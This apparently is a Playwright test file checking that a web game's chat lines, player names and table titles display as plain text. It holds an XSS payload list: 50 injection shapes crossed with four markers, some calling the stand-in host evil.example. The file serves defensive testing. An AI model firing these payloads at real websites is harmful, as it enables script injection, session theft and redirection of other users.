"""Names, titles and talk are text, whatever they hold."""

from __future__ import annotations

from itertools import product

from playwright.sync_api import expect

from tests.web.conftest import Invite, Server

MARKERS = ["alert(1)", "window.pwned=1", "fetch('//evil.example/')", "document.title='x'"]
SHAPES = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=javascript:{}>x</a>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "</p><script>{}</script>",
    "--><script>{}</script><!--",
    '"><img src=x onerror={}>',
    "'><svg/onload={}>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{ $name }} {}",
    "<style>@import'//evil.example/';</style>{}",
    "<link rel=stylesheet href=//evil.example/>{}",
    "<base href=//evil.example/>{}",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>{}",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>",
    "<template><script>{}</script></template>",
    "<noscript><img src=x onerror={}></noscript>",
    "<marquee onstart={}>",
    "<isindex action=javascript:{}>",
    "<img src=`x` onerror={}>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={}>'/></svg>",
    "<x onclick={} tabindex=1>x</x>",
    "<img srcset=x onerror={}>",
    "<audio src onerror={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<keygen autofocus onfocus={}>",
    "<div style=background:url(javascript:{})>",
    "<div style=width:expression({})>",
    "\u202e<script>{}</script>",
    "<img\u00a0src=x\u00a0onerror={}>",
    "<a href='&#106;avascript:{}'>x</a>",
]
PAYLOADS = [shape.format(marker) for shape, marker in product(SHAPES, MARKERS)]
FOREIGN = ":is(script, img, iframe, object, embed, base, math, marquee, video, audio, style, a, form)"
HANDLERS = """() => [...document.body.querySelectorAll("*")]
    .filter((each) => [...each.attributes].some((own) => own.name.startsWith("on")))
    .map((each) => each.outerHTML.slice(0, 120))"""


def test_there_are_two_hundred_payloads():
    assert len(set(PAYLOADS)) == 200


# Says all of this to the table, each as soon as the one before it has gone.
SAY = """async (lines) => {
    const input = document.querySelector(".say input");
    const until = async (done) => { while (!done()) await new Promise((soon) => setTimeout(soon, 5)); };
    for (const line of lines) {
        input.value = line;
        input.dispatchEvent(new Event("input", {bubbles: true}));
        input.form.requestSubmit();
        await until(() => input.value === "");
    }
}"""


def test_talk_is_inert(house: Server, invite: Invite):
    visitor = invite(house, lang="en")
    visitor.open_table("betrayal", {}, play=False)
    page = visitor.page
    page.wait_for_selector("[data-begin]")
    title = page.title()
    page.evaluate(SAY, PAYLOADS)
    expect(page.locator(".lines .m p")).to_have_count(len(PAYLOADS))
    assert page.evaluate("window.pwned") is None and page.title() == title
    assert page.evaluate(HANDLERS) == []
    assert (
        page.locator(
            ".lines :is(script, img, svg:not([aria-hidden]), iframe, a, form, style, object)"
        ).count()
        == 0
    )


def test_names_and_titles_are_inert(house: Server, invite: Invite):
    """Ten people with such names at one table, which has each of them for its title in turn."""
    first, *others = [each[:24] for each in PAYLOADS[::20]]
    host = invite(house, lang="en")
    page = host.go("/new/clocktower")
    page.fill("input[autocomplete=nickname]", first)
    page.fill("input[maxlength='60']", first)
    page.select_option("[data-option-field=players]", str(1 + len(others)))
    page.click("form > .go")
    page.wait_for_selector("[data-begin]")
    code = page.url.rpartition("/")[2]
    for seat, payload in enumerate(others, start=1):
        guest = invite(house, lang="en")
        guest.introduce(payload)
        guest.order(code, {"type": "sit", "seat": seat})
        host.order(code, {"type": "settings", "title": payload})
        expect(page.locator("h1")).to_have_text(payload)
    page.wait_for_selector("li.mine")
    assert page.evaluate(HANDLERS) == []
    page.click("[data-begin]")
    page.wait_for_selector("section.dock")
    assert page.evaluate("window.pwned") is None
    assert page.evaluate(HANDLERS) == []
